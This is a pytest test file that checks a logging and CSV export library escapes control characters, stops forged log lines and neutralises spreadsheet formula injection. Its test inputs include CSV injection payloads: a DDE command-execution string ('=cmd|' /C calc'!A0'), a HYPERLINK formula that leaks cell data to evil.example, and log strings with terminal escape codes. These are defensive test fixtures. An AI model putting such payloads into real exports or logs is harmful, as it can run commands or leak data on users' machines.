"""What others wrote does nothing to a terminal, a log or a sheet."""

import csv
import io
import json
import logging
import random

import pytest

from bridge.observe.logs import JsonLines, PlainLines
from bridge.observe.visible import cell, one_visible_line, visible

pytestmark = pytest.mark.promise("S7", "nothing is executed in page, mail, header, CSV, log or SQL")

CONTROLS = [chr(n) for n in (*range(32), *range(127, 160)) if chr(n) not in "\n\t"]
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+49 30 23125 010",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\u200b=1+1",
    "Berg;=1+1",
    "Berg,@SUM(1)",
    "Berg\t-1",
    '"=1+1',
    '=HYPERLINK("https://evil.example/?"&A1;"x")',
)


def record(message: str, **extras: object) -> logging.LogRecord:
    """A line of a log."""
    line = logging.LogRecord("bridge", logging.INFO, __file__, 1, message, (), None)
    vars(line).update(extras)
    return line


@pytest.mark.parametrize("control", [*CONTROLS, "\u202e", "\u2028", "\u2066", "\ufeff", "\ud800"])
def test_controls_are_written_out(control: str) -> None:
    shown = visible(f"a{control}b")
    assert shown == f"a\\u{ord(control):04x}b"
    assert json.loads(f'"{shown}"') == f"a{control}b", "in JSON it is the same text as before"


def test_words_stay_as_they_are() -> None:
    text = "Jürgen Müller\tGmbH & Co. KG\n„Größe“ – 東京, الرياض, 👩‍💻 C:\\temp"
    assert visible(text) == text


@pytest.mark.parametrize("formatter", [JsonLines(), PlainLines()])
def test_nobody_forges_a_line_of_a_log(formatter: logging.Formatter) -> None:
    evil = 'x\n{"level": "error"}\r\nerror: \x1b[2J\x9b31m\u2028done'
    line = formatter.format(record(f"refused {evil}", path=evil, reason=[evil]))
    assert len(line.splitlines()) == 1
    assert not set(line) & set(CONTROLS)


def test_a_line_for_machines_stays_readable_for_machines() -> None:
    evil = "x\n\x1b\x9b\u2028\\u0041"
    assert json.loads(JsonLines().format(record("said", words=evil)))["words"] == evil


@pytest.mark.parametrize("text", FORMULAS)
def test_a_sheet_takes_no_text_for_a_formula(text: str) -> None:
    for separator in ",;\t|":
        for shown in next(csv.reader(io.StringIO(cell(text)), delimiter=separator)):
            assert shown.strip('\u200b "')[:1] not in {*"=+-@＝＋－＠"}


@pytest.mark.parametrize("number", ["+4930123456", "+49 (0)30 / 901-820", "+49 30.23125.010"])
def test_a_telephone_number_stays_as_it_is_for_programs_that_want_it(number: str) -> None:
    assert cell(number, telephones=True) == number
    assert cell(number) == f"'{number}"


@pytest.mark.parametrize(
    "text",
    [
        *(formula for formula in FORMULAS if not formula.startswith("+49 ")),
        "+cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "+1+1",
        "+1*2",
        "+A1",
        "+1E5",
        "+",
        "+(1)",
        "+1\n=1+1",
        "+1\n",
        "+1,=1",
        "+1;2",
        "+1\t2",
        "+１２",
        "=+1",
        "-1",
    ],
)
def test_nothing_else_passes_for_a_telephone_number(text: str) -> None:
    assert cell(text, telephones=True) == cell(text)
    assert cell(text, telephones=True) != text


def test_numbers_stay_numbers_and_words_stay_words() -> None:
    assert [cell(value) for value in (-5, 1.5, None, "Berg & Söhne – 50 % = halb", "a@b.example")] == [
        -5,
        1.5,
        None,
        "Berg & Söhne – 50 % = halb",
        "a@b.example",
    ]


def test_any_text_is_harmless() -> None:
    chance = random.Random(7)
    letters = "".join(CONTROLS) + "=+-@;,|\t\n\"'ab \u202e\ud800😀"
    for _ in range(2000):
        text = "".join(chance.choices(letters, k=chance.randint(0, 12)))
        assert not set(one_visible_line(text)) & {*CONTROLS, "\n", "\t"}
        one_visible_line(text).encode()
        shown = cell(text)
        assert not any(part.lstrip()[:1] in set("=+-@") and part.lstrip() for part in shown.split(";"))
